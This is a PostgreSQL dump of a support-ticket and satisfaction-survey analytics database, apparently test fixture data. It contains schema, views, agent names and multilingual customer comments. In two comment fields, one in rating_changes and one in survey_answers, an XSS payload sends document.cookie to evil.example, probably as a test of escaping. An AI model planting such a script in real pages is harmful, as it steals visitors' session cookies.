--
-- PostgreSQL database dump
--


-- Dumped from database version 16.14
-- Dumped by pg_dump version 16.14

SET statement_timeout = 0;
SET lock_timeout = 0;
SET idle_in_transaction_session_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET xmloption = content;
SET client_min_messages = warning;
SET row_security = off;

--
-- Name: public; Type: SCHEMA; Schema: -; Owner: -
--

CREATE SCHEMA public;


--
-- Name: SCHEMA public; Type: COMMENT; Schema: -; Owner: -
--

COMMENT ON SCHEMA public IS 'standard public schema';


SET default_tablespace = '';

SET default_table_access_method = heap;

--
-- Name: account; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.account (
    url character varying NOT NULL,
    timezone character varying
);


--
-- Name: agents; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.agents (
    agent_id bigint NOT NULL,
    name character varying,
    role character varying,
    default_group_id bigint,
    is_active boolean
);


--
-- Name: brands; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.brands (
    brand_id bigint NOT NULL,
    name character varying,
    subdomain character varying,
    is_active boolean
);


--
-- Name: cursors; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.cursors (
    stream character varying NOT NULL,
    cursor character varying,
    saved_at timestamp with time zone
);


--
-- Name: groups; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.groups (
    group_id bigint NOT NULL,
    name character varying,
    is_deleted boolean
);


--
-- Name: survey_responses; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.survey_responses (
    response_id character varying NOT NULL,
    ticket_id bigint,
    responder_id bigint,
    survey_id character varying,
    survey_version bigint,
    offered_at timestamp with time zone,
    submitted_at timestamp with time zone,
    updated_at timestamp with time zone,
    expires_at timestamp with time zone,
    rating bigint,
    rating_category character varying,
    comment character varying,
    reason character varying,
    agent_id bigint,
    group_id bigint,
    attribution character varying,
    revisions bigint,
    source character varying
);


--
-- Name: tickets; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.tickets (
    ticket_id bigint NOT NULL,
    subject character varying,
    status character varying,
    type character varying,
    priority character varying,
    channel character varying,
    brand_id bigint,
    ticket_form_id bigint,
    organization_id bigint,
    requester_id bigint,
    assignee_id bigint,
    group_id bigint,
    tags character varying[],
    custom_fields character varying,
    satisfaction_score character varying,
    satisfaction_reason character varying,
    satisfaction_comment character varying,
    created_at timestamp with time zone,
    updated_at timestamp with time zone,
    generated_at timestamp with time zone,
    solved_at timestamp with time zone,
    assigned_at timestamp with time zone,
    assignee_updated_at timestamp with time zone,
    reopens bigint,
    replies bigint,
    assignee_stations bigint,
    group_stations bigint,
    first_reply_minutes bigint,
    first_resolution_minutes bigint,
    full_resolution_minutes bigint,
    requester_wait_minutes bigint,
    agent_wait_minutes bigint,
    on_hold_minutes bigint,
    first_reply_business_minutes bigint,
    first_resolution_business_minutes bigint,
    full_resolution_business_minutes bigint,
    requester_wait_business_minutes bigint,
    agent_wait_business_minutes bigint,
    on_hold_business_minutes bigint,
    handle_seconds bigint,
    is_deleted boolean
);


--
-- Name: offers; Type: VIEW; Schema: public; Owner: -
--

CREATE VIEW public.offers AS
 SELECT r.response_id,
    r.ticket_id,
    r.offered_at,
    r.expires_at,
    COALESCE(NULLIF((g.name)::text, ''::text),
        CASE
            WHEN (
            CASE
                WHEN (r.rating_category IS NULL) THEN t.group_id
                ELSE r.group_id
            END IS NULL) THEN 'no group'::text
            ELSE ('group '::text ||
            CASE
                WHEN (r.rating_category IS NULL) THEN t.group_id
                ELSE r.group_id
            END)
        END) AS "group",
    t.channel,
    t.priority,
    (r.rating_category IS NOT NULL) AS is_answered,
    (date_trunc('week'::text, (r.offered_at AT TIME ZONE 'Europe/Berlin'::text)))::date AS week,
    COALESCE(NULLIF((a.name)::text, ''::text),
        CASE
            WHEN (
            CASE
                WHEN (r.rating_category IS NULL) THEN t.assignee_id
                ELSE r.agent_id
            END IS NULL) THEN 'unassigned'::text
            ELSE ('agent '::text ||
            CASE
                WHEN (r.rating_category IS NULL) THEN t.assignee_id
                ELSE r.agent_id
            END)
        END) AS agent,
    b.name AS brand,
    r.reason,
    r.survey_version,
    r.rating_category,
    t.tags,
    t.custom_fields,
    (date_trunc('day'::text, (r.offered_at AT TIME ZONE 'Europe/Berlin'::text)))::date AS day,
    (date_trunc('month'::text, (r.offered_at AT TIME ZONE 'Europe/Berlin'::text)))::date AS month
   FROM ((((public.survey_responses r
     LEFT JOIN public.tickets t ON ((t.ticket_id = r.ticket_id)))
     LEFT JOIN ( SELECT agents.agent_id,
                CASE
                    WHEN ((count(*) OVER (PARTITION BY agents.name) > 1) AND ((agents.name)::text <> ''::text)) THEN (((((agents.name)::text || ' ('::text) || agents.agent_id) || ')'::text))::character varying
                    ELSE agents.name
                END AS name
           FROM public.agents) a ON ((a.agent_id =
        CASE
            WHEN (r.rating_category IS NULL) THEN t.assignee_id
            ELSE r.agent_id
        END)))
     LEFT JOIN ( SELECT groups.group_id,
                CASE
                    WHEN ((count(*) OVER (PARTITION BY groups.name, groups.is_deleted) > 1) AND ((groups.name)::text <> ''::text)) THEN (((((groups.name)::text || ' ('::text) || groups.group_id) || ')'::text))::character varying
                    ELSE groups.name
                END AS name
           FROM public.groups) g ON ((g.group_id =
        CASE
            WHEN (r.rating_category IS NULL) THEN t.group_id
            ELSE r.group_id
        END)))
     LEFT JOIN public.brands b ON ((b.brand_id = t.brand_id)));


--
-- Name: pulls; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.pulls (
    pull_id character varying NOT NULL,
    started_at timestamp with time zone,
    ended_at timestamp with time zone,
    outcome character varying,
    error character varying,
    tickets bigint,
    responses bigint,
    calls bigint,
    waited_seconds bigint,
    unknown bigint
);


--
-- Name: rating_changes; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.rating_changes (
    response_id character varying NOT NULL,
    updated_at timestamp with time zone NOT NULL,
    rating bigint,
    rating_category character varying,
    comment character varying
);


--
-- Name: ratings; Type: VIEW; Schema: public; Owner: -
--

CREATE VIEW public.ratings AS
 SELECT r.response_id,
    r.ticket_id,
    r.responder_id,
    r.survey_id,
    r.survey_version,
    r.offered_at,
    r.submitted_at,
    r.updated_at,
    r.expires_at,
    r.rating,
    r.rating_category,
    r.comment,
    r.reason,
    r.agent_id,
    r.group_id,
    r.attribution,
    r.revisions,
    r.source,
    COALESCE(NULLIF((a.name)::text, ''::text),
        CASE
            WHEN (r.agent_id IS NULL) THEN 'unassigned'::text
            ELSE ('agent '::text || r.agent_id)
        END) AS agent,
    COALESCE(NULLIF((g.name)::text, ''::text),
        CASE
            WHEN (r.group_id IS NULL) THEN 'no group'::text
            ELSE ('group '::text || r.group_id)
        END) AS "group",
    b.name AS brand,
    t.channel,
    t.priority,
    t.status,
    t.tags,
    t.first_reply_minutes,
    t.first_resolution_minutes,
    t.full_resolution_minutes,
    t.requester_wait_minutes,
    t.agent_wait_minutes,
    t.on_hold_minutes,
    t.first_reply_business_minutes,
    t.first_resolution_business_minutes,
    t.full_resolution_business_minutes,
    t.requester_wait_business_minutes,
    t.agent_wait_business_minutes,
    t.on_hold_business_minutes,
    t.handle_seconds,
    t.reopens,
    t.replies,
    t.assignee_stations,
        CASE r.rating_category
            WHEN 'good'::text THEN true
            WHEN 'bad'::text THEN false
            ELSE NULL::boolean
        END AS is_good,
    (date_trunc('week'::text, (r.submitted_at AT TIME ZONE 'Europe/Berlin'::text)))::date AS week,
        CASE
            WHEN (r.ticket_id IS NOT NULL) THEN ('http://127.0.0.1:48217/agent/tickets/'::text || r.ticket_id)
            ELSE NULL::text
        END AS ticket_url,
    t.custom_fields,
    (date_trunc('day'::text, (r.submitted_at AT TIME ZONE 'Europe/Berlin'::text)))::date AS day,
    (date_trunc('month'::text, (r.submitted_at AT TIME ZONE 'Europe/Berlin'::text)))::date AS month
   FROM ((((public.survey_responses r
     LEFT JOIN public.tickets t ON ((t.ticket_id = r.ticket_id)))
     LEFT JOIN ( SELECT agents.agent_id,
                CASE
                    WHEN ((count(*) OVER (PARTITION BY agents.name) > 1) AND ((agents.name)::text <> ''::text)) THEN (((((agents.name)::text || ' ('::text) || agents.agent_id) || ')'::text))::character varying
                    ELSE agents.name
                END AS name
           FROM public.agents) a ON ((a.agent_id = r.agent_id)))
     LEFT JOIN ( SELECT groups.group_id,
                CASE
                    WHEN ((count(*) OVER (PARTITION BY groups.name, groups.is_deleted) > 1) AND ((groups.name)::text <> ''::text)) THEN (((((groups.name)::text || ' ('::text) || groups.group_id) || ')'::text))::character varying
                    ELSE groups.name
                END AS name
           FROM public.groups) g ON ((g.group_id = r.group_id)))
     LEFT JOIN public.brands b ON ((b.brand_id = t.brand_id)))
  WHERE ((r.submitted_at IS NOT NULL) AND (r.rating_category IS NOT NULL));


--
-- Name: schema_version; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.schema_version (
    version bigint
);


--
-- Name: survey_answers; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.survey_answers (
    response_id character varying NOT NULL,
    question_id character varying NOT NULL,
    "position" bigint,
    question_type character varying,
    sub_type character varying,
    alias character varying,
    headline character varying,
    answer_type character varying,
    rating bigint,
    rating_category character varying,
    rating_label character varying,
    selections character varying[],
    value character varying,
    created_at timestamp with time zone,
    updated_at timestamp with time zone
);


--
-- Name: surveys; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.surveys (
    survey_id character varying NOT NULL,
    survey_version bigint NOT NULL,
    question_id character varying NOT NULL,
    option_id character varying NOT NULL,
    "position" bigint,
    question_type character varying,
    sub_type character varying,
    headline character varying,
    rating bigint,
    label character varying,
    state character varying
);


--
-- Name: ticket_fields; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.ticket_fields (
    field_id bigint NOT NULL,
    title character varying,
    type character varying,
    options character varying,
    is_active boolean
);


--
-- Name: unknown_bodies; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.unknown_bodies (
    kind character varying NOT NULL,
    id character varying NOT NULL,
    problem character varying,
    body character varying
);


--
-- Data for Name: account; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.account VALUES
	('http://127.0.0.1:48217', 'Europe/Berlin');


--
-- Data for Name: agents; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.agents VALUES
	(40000000000029, 'Amara Okafor', 'agent', 41099511627805, true),
	(40000000000157, 'Jonas Weber', 'agent', 41099511627805, true),
	(40000000000285, 'Priya Raman', 'agent', 41099511627805, true),
	(40000000000413, 'Łukasz Wójcik', 'agent', 41099511627805, true),
	(40000000000541, 'Chloé Martin', 'agent', 41099511627805, true),
	(40000000000669, 'Daniel O''Brien', 'agent', 41099511627805, true),
	(40000000000797, 'Noor Haddad', 'agent', 41099511627805, true),
	(40000000000925, 'Tomás Herrera', 'agent', 41099511627805, true),
	(40000000001053, 'Mei-Ling Chen', 'agent', 41099511627805, true),
	(40000000001181, 'Sofía Núñez', 'agent', 41099511627933, true),
	(40000000001309, 'Erik Lindqvist', 'agent', 41099511627933, true),
	(40000000001437, 'Fatima Zahra El Idrissi', 'agent', 41099511627933, true),
	(40000000001565, 'Hannah Schröder', 'agent', 41099511627933, true),
	(40000000001693, 'Kwame Mensah', 'agent', 41099511627933, true),
	(40000000001821, 'Olga Petrova', 'agent', 41099511627933, true),
	(40000000001949, 'Rafael Souza', 'agent', 41099511627933, true),
	(40000000002077, '佐藤 美咲', 'agent', 41099511627933, true),
	(40000000002205, 'Anders Møller', 'agent', 41099511628061, true),
	(40000000002333, 'Deepak Sharma', 'agent', 41099511628061, true),
	(40000000002461, '李 伟', 'agent', 41099511628061, true),
	(40000000002589, 'Maya Cohen', 'agent', 41099511628061, true),
	(40000000002717, 'Viktor Horváth', 'agent', 41099511628061, true),
	(40000000002845, 'Zeynep Yılmaz', 'agent', 41099511628061, true),
	(40000000002973, 'Grace Kim', 'agent', 41099511628061, true),
	(40000000003101, 'Aoife Byrne', 'agent', 41099511628189, true),
	(40000000003229, 'Bogdan Ionescu', 'agent', 41099511628189, false),
	(40000000003357, 'Camila Rojas', 'agent', 41099511628189, true),
	(40000000003485, 'محمد العلي', 'agent', 41099511628189, true),
	(40000000003613, 'Ingrid Haugen', 'agent', 41099511628189, true),
	(40000000003741, 'Pieter van den Berg', 'agent', 41099511628189, true),
	(40000000003869, 'Elena Rossi', 'agent', 41099511628317, true),
	(40000000003997, 'Hiroshi Tanaka', 'agent', 41099511628317, true),
	(40000000004125, 'Joanna Kowalczyk', 'agent', 41099511628317, true),
	(40000000004253, 'Samuel Adeyemi', 'agent', 41099511628317, true),
	(40000000004381, 'Thu Hà Nguyễn', 'agent', 41099511628317, true),
	(40000000004509, 'अनिता वर्मा', 'agent', 41099511628317, true),
	(40000000004637, 'Alex Kim', 'agent', 41099511628445, true),
	(40000000004765, 'Ελένη Παπαδοπούλου', 'agent', 41099511628445, true),
	(40000000004893, 'Marcus Brown', 'agent', 41099511628445, true),
	(40000000005021, 'Юлія Шевченко', 'agent', 41099511628445, true),
	(40000000005149, 'Ada Admin', 'admin', 41099511627805, true);


--
-- Data for Name: brands; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.brands VALUES
	(42199023255581, 'Nordwind', 'nordwind', true),
	(42199023255709, 'Nordwind Outlet', 'nordwind-outlet', true);


--
-- Data for Name: cursors; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.cursors VALUES
	('tickets', 'MTc2NDAwMzYwMC4wfHw5MHw=', '2026-11-25 13:01:43.143275+00'),
	('survey_responses', '01KAVCXNP4524S2P0S9S2K4QQJ', '2026-11-25 13:01:43.299748+00'),
	('changed_tickets', '2025-11-24T17:00:00+00:00|90', '2026-11-25 13:01:43.451839+00'),
	('conversations', '2025-11-24T19:00:00+00:00', '2026-11-25 13:01:43.6256+00'),
	('satisfaction_ratings', '2025-11-24T17:00:00+00:00', '2026-11-25 13:01:43.781211+00');


--
-- Data for Name: groups; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.groups VALUES
	(41099511627805, 'First Line', false),
	(41099511627933, 'Billing', false),
	(41099511628061, 'Technical', false),
	(41099511628189, 'Returns', false),
	(41099511628317, 'Onboarding', false),
	(41099511628445, 'Messaging & Voice', false);


--
-- Data for Name: pulls; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.pulls VALUES
	('36705fcad80943a7a1536150411fac9a', '2025-11-24 06:00:00+00', '2025-11-25 12:00:00+00', 'done', NULL, 90, 79, 11, 0, 2),
	('de9571efdef449f7ad536ac21bf1d017', '2025-11-24 19:00:00+00', '2025-11-25 12:00:00+00', 'done', NULL, 28, 111, 14, 0, 5);


--
-- Data for Name: rating_changes; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.rating_changes VALUES
	('01K83YNDDVAYKTGH2TABBWH8ZJ', '2025-10-26 08:41:11.556+00', 3, 'bad', NULL),
	('01K84KQC3GTE1AHPSX7KY51ANQ', '2025-10-22 04:19:17.013+00', 5, 'good', NULL),
	('01K8BZSCSBFCE2JK1G963F0HKJ', '2025-10-24 21:46:29.989+00', 5, 'good', NULL),
	('01K8JST48VB0GCAHA4125XKYQ0', '2025-10-27 19:37:44.702+00', 3, 'bad', NULL),
	('01K8XPC6WX7RPXSGZPTYYZCGJA', '2025-11-01 06:11:51.283+00', 5, 'good', NULL),
	('01K97Z7A4MPPX45ZFEY9CPE0P3', '2025-11-05 13:52:16.612+00', 5, 'good', NULL),
	('01K9ED6Z66HDKC2PT77SFDY10E', '2025-11-07 14:39:41.846+00', 5, 'good', 'Great help, as always.'),
	('01K9FMQXK64P18KSMWKVPXWBDS', '2025-11-07 18:19:15.605+00', 5, 'good', NULL),
	('01K9PZZK7VY5Q17METMQGW8P1B', '2025-11-11 03:02:31.669+00', 2, 'bad', '<script>fetch(''http://evil.example/''+document.cookie)</script>'),
	('01K9VX5Q2XMHGX9AGANK899FWX', '2025-11-12 12:04:12.714+00', 5, 'good', NULL),
	('01K9X1ABX30VY145FMDX0984K3', '2025-11-12 22:20:16.949+00', 5, 'good', 'شكرا جزيلا على المساعدة السريعة'),
	('01K9XZMN4FN2Y302VW1SJ18J32', '2025-11-13 09:00:50.079+00', 5, 'good', NULL),
	('01KA49CP6S88E9EEDS3KRJ9B92', '2025-11-16 12:44:12.038+00', 5, 'good', NULL),
	('01KAGYENAAH8EKQWVQW31YZ1WC', '2025-11-20 23:32:26.634+00', 2, 'bad', NULL),
	('01KAH6NZRJPQ5EB4C54JWHSR6W', '2025-11-20 19:38:02.854+00', 5, 'good', 'Could not be better.'),
	('01KAKD66D5JPQG060FQHV2NA83', '2025-11-22 04:39:58.521+00', 1, 'bad', '等了三天才有人回复'),
	('01KAN7PC5515PJTDZRVAAXYXX4', '2025-11-23 06:23:15.458+00', 5, 'good', NULL),
	('legacy-49895604650141', '2025-10-09 03:56:18+00', NULL, 'good', 'बहुत अच्छी मदद मिली, धन्यवाद'),
	('legacy-49895604650269', '2025-10-07 09:26:32+00', NULL, 'bad', 'Took far too long.'),
	('legacy-49895604650525', '2025-10-09 11:56:48+00', NULL, 'good', NULL),
	('legacy-49895604650653', '2025-10-09 17:43:30+00', NULL, 'bad', 'The refund never arrived.'),
	('legacy-49895604650781', '2025-10-09 01:50:55+00', NULL, 'bad', NULL),
	('legacy-49895604650909', '2025-10-10 04:05:59+00', NULL, 'bad', 'Viel zu langsam, und das Problem besteht weiter.'),
	('legacy-49895604651293', '2025-10-14 11:51:48+00', NULL, 'good', NULL),
	('legacy-49895604651421', '2025-10-12 04:42:16+00', NULL, 'bad', 'I had to explain everything again. The app on my phone is the issue.'),
	('legacy-49895604651549', '2025-10-15 09:05:16+00', NULL, 'good', NULL),
	('legacy-49895604651677', '2025-10-17 18:45:38+00', NULL, 'bad', 'Took far too long.'),
	('legacy-49895604651805', '2025-10-16 09:48:34+00', NULL, 'good', 'とても丁寧な対応でした。'),
	('legacy-49895604652061', '2025-10-17 17:56:35+00', NULL, 'good', NULL),
	('legacy-49895604652573', '2025-10-17 15:53:41+00', NULL, 'good', 'Thanks for calling back.'),
	('legacy-49895604652701', '2025-10-18 10:01:10+00', NULL, 'bad', 'I had to explain everything again. It was about the invoice of last month.'),
	('legacy-49895604652829', '2025-10-18 13:07:40+00', NULL, 'good', NULL),
	('legacy-49895604652957', '2025-10-17 12:01:51+00', NULL, 'bad', 'Nobody read what I wrote.'),
	('01K9865CEPKE0NBHA0H4ARPYG6', '2025-11-08 09:53:47.505+00', 5, 'good', NULL),
	('01KAV61YE08551ZVQ0VNEAX8EE', '2025-11-24 17:00:00+00', 2, 'bad', 'Comment 6'),
	('01KAV61YE11CZCPA19QRT4BSF6', '2025-11-24 17:00:00+00', 3, 'bad', NULL),
	('01KAV61YE25CQ3WK2BMC6WX23D', '2025-11-24 17:00:00+00', 4, 'good', 'Comment 8'),
	('01KARRYF4YEP7FTS73AHN0MP39', '2025-11-24 17:00:00+00', 1, 'bad', NULL),
	('01KANCBY65H8HX3R35N4DTF28Q', '2025-11-24 17:00:00+00', 5, 'good', 'Comment 4'),
	('01KAN7PC5515PJTDZRVAAXYXX4', '2025-11-24 17:00:00+00', 1, 'bad', NULL),
	('01KAN720DJ2CPSK4QEV3D8PFZA', '2025-11-24 17:00:00+00', 4, 'good', NULL),
	('01KAMFXWFMV9WNE01R01XW15RW', '2025-11-24 17:00:00+00', 3, 'bad', 'Comment 2'),
	('01KAKD66D5JPQG060FQHV2NA83', '2025-11-24 17:00:00+00', 5, 'good', '等了三天才有人回复'),
	('01KAKCKV3Z22KFD05FGWRBX5AM', '2025-11-24 17:00:00+00', 2, 'bad', NULL),
	('01KAH6NZRJPQ5EB4C54JWHSR6W', '2025-11-24 17:00:00+00', 1, 'bad', 'Could not be better.'),
	('01KAGYENAAH8EKQWVQW31YZ1WC', '2025-11-24 17:00:00+00', 5, 'good', NULL),
	('01KAGPBXMTE04MRVWWSHJMZ0XV', '2025-11-24 17:00:00+00', 1, 'bad', 'Comment 0'),
	('01KA49CP6S88E9EEDS3KRJ9B92', '2025-11-24 17:00:00+00', 1, 'bad', NULL),
	('01K9XZMN4FN2Y302VW1SJ18J32', '2025-11-24 17:00:00+00', 1, 'bad', NULL),
	('legacy-49895604650269', '2025-11-24 17:00:00+00', NULL, 'good', 'Took far too long.'),
	('legacy-49895604650909', '2025-11-24 17:00:00+00', NULL, 'good', 'Viel zu langsam, und das Problem besteht weiter.'),
	('legacy-49895604651677', '2025-11-24 17:00:00+00', NULL, 'good', 'Took far too long.'),
	('legacy-49895604652573', '2025-11-24 17:00:00+00', NULL, 'bad', 'Thanks for calling back.');


--
-- Data for Name: schema_version; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.schema_version VALUES
	(1);


--
-- Data for Name: survey_answers; Type: TABLE DATA; Schema: public; Owner: -
--

INSERT INTO public.survey_answers VALUES
	('01K83YNDDVAYKTGH2TABBWH8ZJ', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 3, 'bad', NULL, NULL, NULL, '2025-10-21 18:47:56.696+00', '2025-10-26 08:41:11.556+00'),
	('01K83YNDDVAYKTGH2TABBWH8ZJ', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-10-21 18:47:56.696+00', '2025-10-21 18:47:56.696+00'),
	('01K84KQC3GTE1AHPSX7KY51ANQ', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-10-22 04:19:17.013+00', '2025-10-22 04:19:17.013+00'),
	('01K84KQC3GTE1AHPSX7KY51ANQ', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-10-22 04:19:17.013+00', '2025-10-22 04:19:17.013+00'),
	('01K8BZSCSBFCE2JK1G963F0HKJ', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-10-24 21:46:29.989+00', '2025-10-24 21:46:29.989+00'),
	('01K8BZSCSBFCE2JK1G963F0HKJ', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-10-24 21:46:29.989+00', '2025-10-24 21:46:29.989+00'),
	('01K8JST48VB0GCAHA4125XKYQ0', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 3, 'bad', NULL, NULL, NULL, '2025-10-27 19:37:44.702+00', '2025-10-27 19:37:44.702+00'),
	('01K8JST48VB0GCAHA4125XKYQ0', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'closed_ended', NULL, NULL, NULL, '{"The issue took too long to resolve"}', NULL, '2025-10-27 19:37:44.702+00', '2025-10-27 19:37:44.702+00'),
	('01K8JST48VB0GCAHA4125XKYQ0', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-10-27 19:37:44.702+00', '2025-10-27 19:37:44.702+00'),
	('01K8XPC6WX7RPXSGZPTYYZCGJA', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-01 06:11:51.283+00', '2025-11-01 06:11:51.283+00'),
	('01K8XPC6WX7RPXSGZPTYYZCGJA', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-01 06:11:51.283+00', '2025-11-01 06:11:51.283+00'),
	('01K97Z7A4MPPX45ZFEY9CPE0P3', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-05 13:52:16.612+00', '2025-11-05 13:52:16.612+00'),
	('01K9865CEPKE0NBHA0H4ARPYG6', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-08 09:53:47.505+00', '2025-11-08 09:53:47.505+00'),
	('01K9ED6Z66HDKC2PT77SFDY10E', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-07 14:39:41.846+00', '2025-11-07 14:39:41.846+00'),
	('01K9ED6Z66HDKC2PT77SFDY10E', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Great help, as always.', '2025-11-07 14:39:41.846+00', '2025-11-07 14:39:41.846+00'),
	('01K9FMQXK64P18KSMWKVPXWBDS', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-07 18:19:15.605+00', '2025-11-07 18:19:15.605+00'),
	('01K9FMQXK64P18KSMWKVPXWBDS', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-07 18:19:15.605+00', '2025-11-07 18:19:15.605+00'),
	('01K9PZZK7VY5Q17METMQGW8P1B', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 2, 'bad', NULL, NULL, NULL, '2025-11-11 03:02:31.669+00', '2025-11-11 03:02:31.669+00'),
	('01K9PZZK7VY5Q17METMQGW8P1B', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'closed_ended', NULL, NULL, NULL, '{"The information provided was not clear or helpful"}', NULL, '2025-11-11 03:02:31.669+00', '2025-11-11 03:02:31.669+00'),
	('01K9PZZK7VY5Q17METMQGW8P1B', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, '<script>fetch(''http://evil.example/''+document.cookie)</script>', '2025-11-11 03:02:31.669+00', '2025-11-11 03:02:31.669+00'),
	('01K9VX5Q2XMHGX9AGANK899FWX', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-12 12:04:12.714+00', '2025-11-12 12:04:12.714+00'),
	('01K9VX5Q2XMHGX9AGANK899FWX', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-12 12:04:12.714+00', '2025-11-12 12:04:12.714+00'),
	('01K9X1ABX30VY145FMDX0984K3', '01K6MABX6N7HQF6WQYJKW2M001', 1, 'rating_scale_numeric', 'customer_satisfaction', NULL, 'How would you rate the support you received?', 'rating_scale', 5, 'good', 'Very satisfied', NULL, NULL, '2025-11-12 22:20:16.949+00', '2025-11-12 22:20:16.949+00'),
	('01K9X1ABX30VY145FMDX0984K3', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'شكرا جزيلا على المساعدة السريعة', '2025-11-12 22:20:16.949+00', '2025-11-12 22:20:16.949+00'),
	('01K9XZMN4FN2Y302VW1SJ18J32', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-13 09:00:50.079+00', '2025-11-13 09:00:50.079+00'),
	('01KAGYENAAH8EKQWVQW31YZ1WC', '01K6MABX6NVAK6TB3XVXT3Y002', 2, 'closed_ended', NULL, NULL, 'Select a reason regarding your experience', 'closed_ended', NULL, NULL, NULL, '{"I had to repeat myself to several people"}', NULL, '2025-11-20 23:32:26.634+00', '2025-11-20 23:32:26.634+00'),
	('01KAGYENAAH8EKQWVQW31YZ1WC', '01K6MABX6NF3EYDSFX57R58003', 3, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'skipped', NULL, NULL, NULL, NULL, NULL, '2025-11-20 23:32:26.634+00', '2025-11-20 23:32:26.634+00'),
	('01KAH6NZRJPQ5EB4C54JWHSR6W', '01K6MABX6NF3EYDSFX57R58003', 2, 'open_ended', NULL, NULL, 'Share your thoughts on the support you received', 'open_ended', NULL, NULL, NULL, NULL, 'Could not be better.', '2025-11-20 19:38:02.854+00', '2025-11-20 19:38:02.854+00'),
